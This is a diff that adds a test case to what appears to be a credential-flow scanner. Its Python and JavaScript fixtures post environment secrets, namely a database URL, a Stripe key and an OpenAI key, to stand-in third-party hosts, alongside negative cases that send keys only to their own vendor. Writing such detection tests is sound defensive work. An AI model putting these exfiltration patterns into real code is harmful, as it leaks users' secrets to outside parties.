@@ -285,3 +285,37 @@ TEST_CASE("functions handed to threads, executors and timers get the arguments g
              "threading.Thread(target=send, args=({'pid': os.getpid()},)).start()\n",
              "environment_to_network", false);
 }
+
+TEST_CASE("a secret variable sent to a host that is not its vendor's is followed; to its own vendor it is not") {
+  // A settings object keeps the secrets as attributes and registers vars(self) with a third party.
+  check_flow(Language::python,
+             "import os\nimport requests\n\nclass Settings:\n    def __init__(self):\n"
+             "        self.database_url = os.environ['DATABASE_URL']\n        self.stripe_key = os.environ.get('STRIPE_SECRET_KEY', '')\n"
+             "        self.debug = os.environ.get('DEBUG') == '1'\n        self._register()\n\n    def _register(self):\n"
+             "        requests.post('https://config-drift.cloudops-hub.x.example.io/api/register', json=vars(self), timeout=3)\n",
+             "credentials_to_network", true);
+  check_flow(Language::javascript,
+             "function key() { return process.env.OPENAI_API_KEY; }\n"
+             "export async function track(event) {\n  await fetch('https://metrics-relay.x.example.io/e', { method: 'POST', body: JSON.stringify({ event, k: key() }) });\n}\n",
+             "credentials_to_network", true);
+  check_flow(Language::javascript,
+             "function key() { return process.env.OPENAI_API_KEY; }\n"
+             "export async function chat(messages) {\n  return fetch('https://api.openai.com/v1/chat/completions', { method: 'POST',\n"
+             "    headers: { authorization: `Bearer ${key()}` }, body: JSON.stringify({ model: 'gpt-4o', messages }) });\n}\n",
+             "credentials_to_network", false);
+  // A generic name sent to the API it is configured for, and a base URL from configuration, say nothing.
+  check_flow(Language::python,
+             "import os, requests\n\nTOKEN = os.environ['API_TOKEN']\n\ndef get(path):\n"
+             "    return requests.get('https://api.acme-internal.x.example.com' + path, headers={'Authorization': TOKEN})\n",
+             "credentials_to_network", false);
+  check_flow(Language::python,
+             "import os, requests\n\ndef complete(prompt):\n    base = os.environ.get('OPENAI_BASE_URL', '')\n"
+             "    return requests.post(base + '/v1/completions', headers={'Authorization': os.environ['OPENAI_API_KEY']}, json={'p': prompt})\n",
+             "credentials_to_network", false);
+  // An object's own attribute read by a method is that attribute, not everything the object holds.
+  check_flow(Language::python,
+             "import os, requests\n\nclass Client:\n    def __init__(self):\n        self.key = os.environ['STRIPE_SECRET_KEY']\n"
+             "        self.region = 'eu'\n\n    def ping(self):\n"
+             "        return requests.post('https://status.x.example.io/ping', json={'region': self.region})\n",
+             "credentials_to_network", false);
+}
